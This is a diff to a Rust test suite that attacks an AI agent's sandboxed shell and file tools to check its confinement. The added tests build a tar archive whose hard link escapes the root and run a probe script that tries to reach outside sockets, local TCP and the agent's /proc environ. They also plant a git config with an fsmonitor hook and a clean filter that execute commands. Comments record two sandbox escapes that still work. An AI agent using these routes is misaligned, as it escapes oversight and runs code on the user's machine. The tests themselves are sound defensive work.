@@ -205,16 +205,36 @@ async fn attack_symlink_from_archive_cannot_leave_the_root_elsewhere() {
         &["--format=gnu", "-cf", out2.to_str().unwrap(), "out/pwned"],
     );
     write_archive(root.path(), "b.tar", &out2).await;
+    // A third: only a hard-link member whose target goes through the link.
+    let staging3 = staging_parent.path().join("u");
+    std::fs::create_dir_all(staging3.join("out")).unwrap();
+    std::fs::write(staging3.join("out/secret.txt"), "decoy").unwrap();
+    std::fs::hard_link(staging3.join("out/secret.txt"), staging3.join("h")).unwrap();
+    let out3 = staging_parent.path().join("c.tar");
+    let out3_s = out3.to_str().unwrap();
+    sh(
+        &staging3,
+        "tar",
+        &["--format=gnu", "-cf", out3_s, "out/secret.txt", "h"],
+    );
+    sh(
+        &staging3,
+        "tar",
+        &["--delete", "-f", out3_s, "out/secret.txt"],
+    );
+    write_archive(root.path(), "c.tar", &out3).await;
     let shell = Shell::new(root.path(), ["tar", "cat", "grep"]).unwrap();
     for args in [
         vec!["-x", "-f", "a.tar"],
         vec!["-x", "-f", "b.tar"],
         vec!["-x", "-f", "b.tar", "-C", "out"],
+        vec!["-x", "-f", "c.tar"],
     ] {
         let _ = run(&shell, json!({"program": "tar", "args": args})).await;
     }
     for (program, args) in [
         ("cat", vec!["out/secret.txt"]),
+        ("cat", vec!["h"]),
         ("grep", vec!["-r", "SECRET", "out/"]),
         ("grep", vec!["-f", "out/secret.txt", "a.tar"]),
     ] {
@@ -424,4 +444,144 @@ async fn attack_option_parsing_quirks_are_refused() {
             "{program} {args:?} was allowed: {result:?}"
         );
     }
+}
+
+// BREAKS: once any code runs in the sandbox (here through `setarch`, see above; `tar` + `git`
+// or `cc` do as well), Landlock does not govern connecting to a Unix socket by path: a socket
+// outside the root (the Docker or containerd socket, an ssh-agent, D-Bus) is reachable.
+// What the confinement does stop is checked alongside: /proc of the agent, writes outside,
+// TCP to this machine.
+#[tokio::test]
+async fn attack_code_in_the_sandbox_reaches_no_socket_outside() {
+    if !confined() {
+        return;
+    }
+    use std::io::Read;
+    let outside = tempfile::tempdir().unwrap();
+    let socket = outside.path().join("agent.sock");
+    let unix = std::os::unix::net::UnixListener::bind(&socket).unwrap();
+    unix.set_nonblocking(true).unwrap();
+    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    let abstract_name = format!("attack-{}", std::process::id());
+    let abstract_addr = {
+        use std::os::linux::net::SocketAddrExt;
+        std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap()
+    };
+    let abstract_listener = std::os::unix::net::UnixListener::bind_addr(&abstract_addr).unwrap();
+    abstract_listener.set_nonblocking(true).unwrap();
+    let port = tcp.local_addr().unwrap().port();
+    let root = tempfile::tempdir().unwrap();
+    let pid = std::process::id();
+    let script = format!(
+        "curl -s -m 3 --unix-socket {sock} http://x/ -d unix-socket-reached\n\
+         curl -s -m 3 http://127.0.0.1:{port}/ -d tcp-reached\n\
+         /usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\\\0{abstract_name}')\"\n\
+         cat /proc/{pid}/environ > environ.txt\n\
+         echo x > {out}/written\n",
+        sock = socket.display(),
+        out = outside.path().display(),
+    );
+    std::fs::write(root.path().join("probe.sh"), script).unwrap();
+    let Ok(shell) = Shell::new(root.path(), ["setarch"]) else {
+        return;
+    };
+    let shell = shell.timeout(std::time::Duration::from_secs(15));
+    let _ = run(
+        &shell,
+        json!({"program": "setarch", "args": ["x86_64", "sh", "probe.sh"]}),
+    )
+    .await;
+    let mut reached = Vec::new();
+    if let Ok((mut stream, _)) = unix.accept() {
+        stream.set_nonblocking(false).unwrap();
+        stream
+            .set_read_timeout(Some(std::time::Duration::from_secs(1)))
+            .unwrap();
+        let mut buf = [0u8; 512];
+        let n = stream.read(&mut buf).unwrap_or(0);
+        reached.push(format!(
+            "unix socket: {}",
+            String::from_utf8_lossy(&buf[..n])
+        ));
+    }
+    if abstract_listener.accept().is_ok() {
+        reached.push("an abstract unix socket".to_owned());
+    }
+    if tcp.accept().is_ok() {
+        reached.push("tcp 127.0.0.1".to_owned());
+    }
+    let environ = std::fs::read(root.path().join("environ.txt")).unwrap_or_default();
+    if !environ.is_empty() {
+        reached.push("the agent's /proc environ".to_owned());
+    }
+    if outside.path().join("written").exists() {
+        reached.push("a write outside".to_owned());
+    }
+    assert!(reached.is_empty(), "sandboxed code reached: {reached:?}");
+}
+
+// BREAKS: `cwd` may be `.git` (the working folder goes through the file tools' resolver, which
+// refuses links but not `.git`), and the `.git` check on operands looks at the names given,
+// not where they land: `cp <root>/evil.txt config` run in `.git` replaces the repository's
+// config with one that sets `core.fsmonitor` (code at the user's next `git status`, outside
+// any sandbox) and a filter that the agent's own `git status` runs.
+#[tokio::test]
+async fn attack_cwd_in_git_lets_cp_rewrite_the_config() {
+    let root = tempfile::tempdir().unwrap();
+    let r = root.path();
+    std::fs::write(r.join("a.txt"), "hello\n").unwrap();
+    sh(r, "git", &["init", "-q"]);
+    sh(r, "git", &["add", "a.txt"]);
+    sh(
+        r,
+        "git",
+        &[
+            "-c",
+            "user.name=u",
+            "-c",
+            "user.email=u@e",
+            "commit",
+            "-qm",
+            "init",
+        ],
+    );
+    let mut config = std::fs::read_to_string(r.join(".git/config")).unwrap();
+    config.push_str(
+        "\tfsmonitor = touch USER-PWNED\n[filter \"x\"]\n\tclean = \"touch PWNED; cat\"\n",
+    );
+    // Both written by the model with write_file, outside `.git`.
+    let files = FileTools::new(r).unwrap();
+    let write = files
+        .all_tools()
+        .into_iter()
+        .find(|t| t.name() == "write_file")
+        .unwrap();
+    for (path, content) in [
+        ("notes.txt", config.as_str()),
+        (".gitattributes", "* filter=x\n"),
+        ("a.txt", "changed\n"),
+    ] {
+        write
+            .call(
+                json!({"path": path, "content": content}),
+                &ToolContext::detached(),
+            )
+            .await
+            .unwrap();
+    }
+    let source = files.root().join("notes.txt");
+    let shell = Shell::new(r, ["cp", "git"]).unwrap();
+    let copied = run(
+        &shell,
+        json!({"program": "cp", "args": [source.to_str().unwrap(), "config"], "cwd": ".git"}),
+    )
+    .await;
+    let _ = run(&shell, json!({"program": "git", "args": ["status"]})).await;
+    let config = std::fs::read_to_string(r.join(".git/config")).unwrap();
+    assert!(
+        !config.contains("fsmonitor"),
+        "cp rewrote .git/config ({copied:?}): {config}"
+    );
+    assert!(!r.join("PWNED").exists(), "git status ran the filter");
 }
